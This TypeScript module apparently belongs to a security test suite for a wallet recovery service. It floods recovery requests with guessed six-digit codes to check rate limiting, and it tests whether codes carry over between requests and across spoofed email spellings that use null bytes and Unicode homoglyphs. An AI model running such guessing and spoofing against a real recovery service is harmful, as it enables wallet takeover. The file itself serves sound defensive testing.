import { ask, type Question } from '../attacker/ask.ts'
import {
  answerTo,
  countCodes,
  type Demand,
  demandIn,
  type IdentityOwner,
  type IdentityPlace,
  mustDemand,
  newestCode,
  newIdentityOwner,
  questionOf,
  recoveryWallet,
} from '../attacker/identity-people.ts'
import type { Randomness } from '../attacker/randomness.ts'
import { storm } from '../attacker/storm.ts'

export interface IdentityCodeGuessing {
  readonly place: IdentityPlace
  /** One for each process. */
  readonly baseUrls: readonly string[]
  readonly victim: IdentityOwner
  /** Recoveries that the thief asks for, each with a wallet and a key of its own: each is mailed codes, as far as any are. */
  readonly requests: number
  /** Guesses at each. */
  readonly guesses: number
  readonly connections: number
  readonly randomness: Randomness
}

export interface IdentityCodeVerdict {
  readonly guesses: number
  /** Answered that the code is wrong: it was compared. */
  readonly compared: number
  readonly refused: number
  readonly strange: readonly number[]
  /** What the right code is answered with when all is over. */
  readonly rightCode: number
}

/** Begins to recover somebody's wallet, by a key and under an id that the thief has made up. */
export function recoveryOf(
  place: IdentityPlace,
  { email, accountId }: Pick<IdentityOwner, 'email' | 'accountId'>,
  randomness: Randomness,
): { thief: IdentityOwner; question: () => Question } {
  const thief = { ...newIdentityOwner(randomness, { email }), accountId }
  const calling = { by: thief.signer, body: recoveryWallet(thief) }
  return { thief, question: () => questionOf(place, `PUT /wallets/${thief.walletId}`, calling) }
}

/** Case 16: guesses at the codes that a recovery is mailed, on many connections, for many requests. */
export async function guessRecoveryMail(attack: IdentityCodeGuessing): Promise<IdentityCodeVerdict> {
  const { place, baseUrls, victim, requests, guesses, connections, randomness } = attack
  const demands: Demand[] = []
  for (let request = 0; request < requests; request++)
    demands.push(mustDemand(await ask(recoveryOf(place, victim, randomness).question())))
  const [first] = demands
  const right = await newestCode(place, victim.email)
  const work = demands.flatMap((demand) => Array.from({ length: guesses }, () => demand))
  const statuses = await storm({
    work,
    connections,
    perform: async (_, demand, index) => {
      const baseUrl = baseUrls[index % baseUrls.length] ?? place.baseUrl
      return (await answerTo({ ...place, baseUrl }, demand, wrongCode(right, randomness))).status
    },
  })
  const rightCode = first ? (await answerTo(place, first, right)).status : 0
  const count = (status: number) => statuses.filter((one) => one === status).length
  return {
    guesses: statuses.length,
    compared: count(400),
    refused: count(429),
    strange: [...new Set(statuses)].filter((status) => ![400, 429].includes(status)),
    rightCode,
  }
}

function wrongCode(right: string, randomness: Randomness): string {
  const code = String(randomness.integer(1_000_000)).padStart(6, '0')
  return code === right ? wrongCode(right, randomness) : code
}

/** Case 16: a code that was mailed for one request, shown for others. Answers with those that it was believed for. */
export async function confuseIdentityCodes(
  place: IdentityPlace,
  victim: IdentityOwner,
  randomness: Randomness,
): Promise<string[]> {
  const before = await countCodes(place, victim.email)
  const mine = recoveryOf(place, victim, randomness)
  const asked = mustDemand(await ask(mine.question()))
  const code = await newestCode(place, victim.email, before + 1)
  const served: string[] = []
  const other = mustDemand(await ask(recoveryOf(place, victim, randomness).question()))
  if ((await answerTo(place, other, code)).status === 204) served.push('another recovery')
  const elsewhere = { ...mine.question(), headers: { ...mine.question().headers, 'user-agent': 'another browser' } }
  if ((await answerTo(place, mustDemand(await ask(elsewhere)), code)).status === 204)
    served.push('the same from elsewhere')
  for (const email of spellings(victim.email)) {
    const spelled = demandIn(await ask(recoveryOf(place, { ...victim, email }, randomness).question()))
    if (spelled && (await answerTo(place, spelled, code)).status === 204) served.push(`for ${email}`)
  }
  if ((await answerTo(place, asked, code)).status !== 204) served.push('not even its own')
  if ((await answerTo(place, asked, code)).status === 204) served.push('its own, twice')
  return served
}

/** What some would take for the same address. */
export function spellings(email: string): string[] {
  const [name = '', domain = ''] = email.split('@')
  return [
    email.toUpperCase(),
    `${name}+tag@${domain}`,
    `${name}@${domain}.`,
    ` ${email}`,
    `${name}@${domain}\u0000`,
    email.replace('k', '\u212A'),
    `${name.normalize('NFD')}\u0301@${domain}`,
    `"${name}"@${domain}`,
  ]
}
